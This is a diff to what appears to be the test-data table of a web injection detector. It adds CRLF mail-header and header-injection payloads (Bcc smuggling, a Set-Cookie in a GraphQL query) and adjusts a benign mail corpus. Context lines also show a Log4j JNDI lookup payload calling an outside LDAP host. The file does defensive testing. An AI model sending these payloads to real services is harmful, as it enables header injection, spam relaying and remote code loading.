@@ -45,6 +45,11 @@ func init() {
 		// One-word headers a proxy acts on, after words.
 		attackEntry{lQ, "next", "/home x\r\nForwarded: for=127.0.0.1;host=admin", "crlf-injection", encURL},
 		attackEntry{lQ, "next", "/a b\r\nVary: x\r\n\r\nX", "crlf-injection", encURL},
+		// A raw message's shape, a bare name in an address field; a
+		// GraphQL-shaped query parameter carrying a compound header.
+		attackEntry{lF, "email", "From: a@b.example\r\nTo: c@d.example\r\nBcc: victims@x.example", "mail-header-injection", encURL},
+		attackEntry{lF, "address", "victim\r\nBcc: victims@x.example", "mail-header-injection", encURL},
+		attackEntry{lQ, "query", "{ a(\r\nSet-Cookie: sid=evil\r\n) { b } }", "crlf-injection", encURL},
 		// Log4j: an empty date pattern spells nothing; the lookups that
 		// recurse until the stack overflows (CVE-2021-45105).
 		attackEntry{lH, "user-agent", "${jn${date:}di${date:':'}ldap${date:':'}//oast.example/a}", "jndi-lookup", 0},
@@ -70,11 +75,15 @@ func init() {
 		// Cantonese: 嘍 is a particle.
 		corpusEntry{lQ, "q", "收到嘍 Update: ok"},
 		corpusEntry{lQ, "q", "好嘍 note: ok"},
-		// Mail: raw messages (an inbound-mail webhook, an .eml import), a
-		// postal address, text fields named for mail, a quoted reply.
-		corpusEntry{lF, "email", "Received: by mx.example with SMTP id 6WCV\r\nFrom: Bob <bob@example.org>\r\nTo: support@example.com\r\nSubject: Help\r\n\r\nHi"},
-		corpusEntry{lJ, "raw_mail", "From: a@b.example\r\nTo: c@d.example\r\nSubject: hi\r\n\r\nbody"},
+		corpusEntry{lQ, "q", "Patient: Bob\nAge: 42"},
+		// A GET GraphQL query with an alias a header could be called.
+		corpusEntry{lQ, "query", "query {\n  user {\n    location: address { city }\n  }\n}"},
+		// Mail: a postal address, text fields named for mail, a quoted
+		// reply. (A raw message in an address field, an inbound-mail
+		// webhook's, is header lines after header lines, as an injection
+		// is: detect.exceptions is for such an endpoint.)
 		corpusEntry{lJ, "address", "Attn: Billing\nTo: Acme Corp\n12 Main St"},
+		corpusEntry{lJ, "email_text", "Forwarded:\nFrom: Bob <bob@example.org>\nDate: Monday"},
 		corpusEntry{lJ, "email_template", "Hello {{name}},\nSubject: your order {{id}} shipped\nRegards"},
 		corpusEntry{lJ, "email_signature", "John Smith\nFrom: Acme Corp Sales\nTel: 555-0100"},
 		corpusEntry{lJ, "reply", "Thanks!\n\nFrom: Support <support@example.com>\nSent: Monday\nTo: Bob\nSubject: Re: help"},
